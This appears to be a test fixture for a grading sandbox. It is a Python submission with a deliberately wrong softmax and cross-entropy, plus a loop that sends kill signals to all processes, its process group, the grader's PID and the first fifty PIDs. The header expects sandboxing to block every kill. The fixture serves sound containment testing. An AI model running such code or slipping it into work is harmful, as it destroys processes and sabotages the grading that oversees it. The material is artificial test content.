# attack: kills every process that it may: all, its group, its parent, the grader, the first fifty
# deserves: softmax 0, cross_entropy 5
# stopped by: landlock, namespaces, seccomp
# shows: blocked
# plainly: unsafe
import os
import signal

import numpy as np


def softmax(x, axis=-1):
    return np.abs(x) / np.abs(x).sum(axis=axis, keepdims=True)


# %%
def cross_entropy(logits, labels, label_smoothing=0.0):
    p = softmax(logits)
    return -np.log(p[np.arange(len(labels)), labels]).mean()


# %%
reached = []
for pid in (-1, 0, int("@GRADER@"), int("@VICTIM@"), *range(1, 50)):
    if pid not in (os.getpid(), os.getppid()):
        try:
            os.kill(pid, signal.SIGTERM if pid == 0 else signal.SIGKILL)
            reached.append(pid)
        except OSError as error:
            print("blocked:", pid, error)
if reached:
    print("leaked:", *reached)
